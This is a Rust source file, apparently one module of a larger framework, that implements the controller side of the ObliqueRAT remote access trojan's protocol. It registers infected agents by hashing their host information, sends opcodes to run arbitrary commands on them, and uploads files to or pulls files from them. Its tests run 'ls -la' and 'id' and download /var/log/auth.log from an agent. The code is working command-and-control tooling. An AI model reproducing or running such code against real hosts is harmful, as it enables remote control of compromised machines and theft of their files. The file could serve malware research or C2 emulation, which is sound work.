use crate::hexdump::hexdump;
use crate::protocol::{ByteQueue, Delegate, DelegateCell};
use log::{debug, info, warn};
use sha2::{Digest, Sha256};
use std::fs::File;
use std::io::{Read, Write};
use std::sync::{Arc, Mutex, Once};
use std::thread;

const OP_DOWNLOAD: &str = "4";
const OP_EXECUTE: &str = "7";
const OP_HOST_INFO: &str = "0";
const OP_UPLOAD: &str = "8";

const ACK: &[u8] = b"ack\x00";
const NAK: &[u8] = b"nak\x00";

const UPLOAD_CHUNK_SIZE: usize = 0x4000;

#[derive(Debug, Clone, Copy, PartialEq, Default)]
enum Active {
    #[default]
    None,
    Download,
    Execute,
    HostInfo,
    Upload,
}

/// ObliqueRAT protocol handler. The server speaks first with single
/// ASCII opcode characters; the agent answers each exchange with a
/// four-byte `ack`/`nak` before plain NUL-terminated strings and
/// big-endian length-prefixed file contents flow.
pub struct Handler {
    inner: Arc<Inner>,
    decoder: Once,
}

struct Inner {
    delegate: DelegateCell,
    queue: ByteQueue,
    state: Mutex<State>,
}

#[derive(Default)]
struct State {
    active: Active,
    executable: String,
    source: String,
    destination: String,
    file: Option<File>,
}

impl Handler {
    pub fn new() -> Self {
        Handler {
            inner: Arc::new(Inner {
                delegate: DelegateCell::new(),
                queue: ByteQueue::new(),
                state: Mutex::new(State::default()),
            }),
            decoder: Once::new(),
        }
    }
}

impl Default for Handler {
    fn default() -> Self {
        Handler::new()
    }
}

impl crate::protocol::Handler for Handler {
    fn needs_tls(&self) -> bool {
        false
    }

    fn set_delegate(&self, delegate: Arc<dyn Delegate>) {
        self.inner.delegate.set(delegate);
    }

    fn accept(&self) {
        let inner = Arc::clone(&self.inner);
        self.decoder.call_once(move || {
            thread::spawn(move || inner.process_data());
        });

        self.inner.state.lock().unwrap().active = Active::HostInfo;
        self.inner.delegate.get().send_data(OP_HOST_INFO.as_bytes());
    }

    fn receive_data(&self, data: &[u8]) {
        debug!("received\n{}", hexdump(data));

        self.inner.queue.put(data);
    }

    fn execute(&self, name: &str, args: &[String]) {
        let command_line = format!("{} {}", name, args.join(" ")).trim().to_string();

        let mut state = self.inner.state.lock().unwrap();
        state.executable = command_line;
        state.active = Active::Execute;
        drop(state);

        self.inner.delegate.get().send_data(OP_EXECUTE.as_bytes());
    }

    fn upload(&self, source: &str, destination: &str) {
        let file = match File::open(source) {
            Ok(f) => f,
            Err(e) => {
                warn!("Error opening source file: {e}");
                return;
            }
        };

        let mut state = self.inner.state.lock().unwrap();
        state.file = Some(file);
        state.source = source.to_string();
        state.destination = destination.to_string();
        state.active = Active::Upload;
        drop(state);

        self.inner.delegate.get().send_data(OP_UPLOAD.as_bytes());
    }

    fn download(&self, source: &str, destination: &str) {
        let file = match File::create(destination) {
            Ok(f) => f,
            Err(e) => {
                warn!("Error opening destination file: {e}");
                return;
            }
        };

        let mut state = self.inner.state.lock().unwrap();
        state.file = Some(file);
        state.source = source.to_string();
        state.destination = destination.to_string();
        state.active = Active::Download;
        drop(state);

        self.inner.delegate.get().send_data(OP_DOWNLOAD.as_bytes());
    }

    fn close(&self) {
        self.inner.state.lock().unwrap().file = None;
        self.inner.queue.close();
    }
}

impl Inner {
    fn process_data(&self) {
        loop {
            let resp = match self.queue.get(4) {
                Ok(b) => b,
                Err(_) => {
                    self.delegate.get().close_connection();
                    return;
                }
            };

            if resp == ACK {
                info!("obliquerat command ack");
            } else if resp == NAK {
                warn!("obliquerat command nak");
                continue;
            }

            let active = self.state.lock().unwrap().active;
            match active {
                Active::Download => {
                    if !self.process_download() {
                        return;
                    }
                }
                Active::Execute => self.process_execute(),
                Active::HostInfo => {
                    if !self.process_host_info() {
                        return;
                    }
                }
                Active::Upload => {
                    if !self.process_upload() {
                        return;
                    }
                }
                Active::None => {}
            }
        }
    }

    fn cleanup(&self) {
        let mut state = self.state.lock().unwrap();
        state.file = None;
        state.executable.clear();
        state.source.clear();
        state.destination.clear();
        state.active = Active::None;
    }

    /// Host information arrives as a NUL-terminated byte string read
    /// one byte at a time. Returns false when the stream died.
    fn process_host_info(&self) -> bool {
        let mut host_info = Vec::new();

        loop {
            let b = match self.queue.get(1) {
                Ok(b) => b,
                Err(_) => {
                    self.delegate.get().close_connection();
                    return false;
                }
            };

            if b[0] == 0x00 {
                break;
            }

            host_info.push(b[0]);
        }

        let id = hex::encode(Sha256::digest(&host_info));
        self.delegate.get().agent_connected(&id);

        self.cleanup();
        true
    }

    fn process_execute(&self) {
        let executable = self.state.lock().unwrap().executable.clone();

        let mut data = executable.into_bytes();
        data.push(0x00);
        self.delegate.get().send_data(&data);

        self.cleanup();
    }

    fn process_download(&self) -> bool {
        let source = self.state.lock().unwrap().source.clone();

        let mut data = source.into_bytes();
        data.push(0x00);
        self.delegate.get().send_data(&data);

        let mut b = match self.queue.get(4) {
            Ok(b) => b,
            Err(_) => {
                self.delegate.get().close_connection();
                return false;
            }
        };

        // There's no ack specified after sending the requested name,
        // but some agents send one anyway; tolerate it and read the
        // size from the following four bytes.
        let acked = if b == ACK {
            info!("obliquerat command ack");
            true
        } else if b == NAK {
            warn!("obliquerat command nak");
            true
        } else {
            false
        };

        if acked {
            b = match self.queue.get(4) {
                Ok(b) => b,
                Err(_) => {
                    self.delegate.get().close_connection();
                    return false;
                }
            };
        }

        let size = u32::from_be_bytes([b[0], b[1], b[2], b[3]]);

        let contents = match self.queue.get(size as usize) {
            Ok(b) => b,
            Err(_) => {
                self.delegate.get().close_connection();
                return false;
            }
        };

        let mut state = self.state.lock().unwrap();
        if let Some(file) = state.file.as_mut() {
            if let Err(e) = file.write_all(&contents) {
                warn!("Error writing destination file: {e}");
            }
        }
        drop(state);

        self.cleanup();
        true
    }

    fn process_upload(&self) -> bool {
        let destination = self.state.lock().unwrap().destination.clone();

        let mut data = destination.into_bytes();
        data.push(0x00);
        self.delegate.get().send_data(&data);

        let resp = match self.queue.get(4) {
            Ok(b) => b,
            Err(_) => {
                self.delegate.get().close_connection();
                return false;
            }
        };

        if resp == ACK {
            info!("obliquerat command ack");
        } else if resp == NAK {
            warn!("obliquerat command nak");
            self.cleanup();
            return true;
        }

        let mut file = match self.state.lock().unwrap().file.take() {
            Some(f) => f,
            None => {
                self.cleanup();
                return true;
            }
        };

        let size = match file.metadata() {
            Ok(m) => m.len() as u32,
            Err(_) => {
                self.cleanup();
                return true;
            }
        };
        self.delegate.get().send_data(&size.to_be_bytes());

        let mut buf = vec![0u8; UPLOAD_CHUNK_SIZE];
        loop {
            let bytes_read = match file.read(&mut buf) {
                Ok(0) => break,
                Ok(n) => n,
                Err(e) => {
                    warn!("Error reading source file: {e}");
                    break;
                }
            };

            self.delegate.get().send_data(&buf[..bytes_read]);
        }

        self.cleanup();
        true
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::protocol::testutil::RecordingDelegate;
    use crate::protocol::Handler as _;

    #[test]
    fn test_accept_requests_host_info() {
        let handler = Handler::new();
        let delegate = Arc::new(RecordingDelegate::new());
        handler.set_delegate(delegate.clone());

        handler.accept();

        let sent = delegate.wait_for_sends(1);
        assert_eq!(sent[0], b"0".to_vec());
    }

    #[test]
    fn test_host_info_registers_agent() {
        let handler = Handler::new();
        let delegate = Arc::new(RecordingDelegate::new());
        handler.set_delegate(delegate.clone());

        handler.accept();
        delegate.wait_for_sends(1);

        handler.receive_data(b"ack\x00");
        handler.receive_data(b"ubuntu-web01\x00");

        let agents = delegate.wait_for_agents(1);
        assert_eq!(agents[0], hex::encode(Sha256::digest(b"ubuntu-web01")));
    }

    #[test]
    fn test_execute_sends_command_after_ack() {
        let handler = Handler::new();
        let delegate = Arc::new(RecordingDelegate::new());
        handler.set_delegate(delegate.clone());

        handler.accept();
        handler.receive_data(b"ack\x00");
        handler.receive_data(b"host\x00");
        delegate.wait_for_agents(1);

        handler.execute("ls", &["-la".to_string()]);
        let sent = delegate.wait_for_sends(2);
        assert_eq!(sent[1], b"7".to_vec());

        handler.receive_data(b"ack\x00");
        let sent = delegate.wait_for_sends(3);
        assert_eq!(sent[2], b"ls -la\x00".to_vec());
    }

    #[test]
    fn test_nak_skips_command() {
        let handler = Handler::new();
        let delegate = Arc::new(RecordingDelegate::new());
        handler.set_delegate(delegate.clone());

        handler.accept();
        handler.receive_data(b"ack\x00");
        handler.receive_data(b"host\x00");
        delegate.wait_for_agents(1);

        handler.execute("id", &[]);
        delegate.wait_for_sends(2);

        // nak leaves the command unanswered.
        handler.receive_data(b"nak\x00");
        std::thread::sleep(std::time::Duration::from_millis(50));
        assert_eq!(delegate.sent().len(), 2);
    }

    #[test]
    fn test_download_flow() {
        let dir = tempfile::tempdir().unwrap();
        let dest = dir.path().join("pulled.bin");

        let handler = Handler::new();
        let delegate = Arc::new(RecordingDelegate::new());
        handler.set_delegate(delegate.clone());

        handler.accept();
        handler.receive_data(b"ack\x00");
        handler.receive_data(b"host\x00");
        delegate.wait_for_agents(1);

        handler.download("/var/log/auth.log", dest.to_str().unwrap());
        let sent = delegate.wait_for_sends(2);
        assert_eq!(sent[1], b"4".to_vec());

        // Agent acks the opcode, then acks the name, then sends
        // size-prefixed contents.
        handler.receive_data(b"ack\x00");
        delegate.wait_for_sends(3);

        handler.receive_data(b"ack\x00");
        handler.receive_data(&7u32.to_be_bytes());
        handler.receive_data(b"suspect");

        let deadline = std::time::Instant::now() + std::time::Duration::from_secs(5);
        loop {
            if std::fs::read(&dest).map(|d| d == b"suspect").unwrap_or(false) {
                break;
            }
            assert!(std::time::Instant::now() < deadline, "download never completed");
            std::thread::sleep(std::time::Duration::from_millis(10));
        }
    }
}
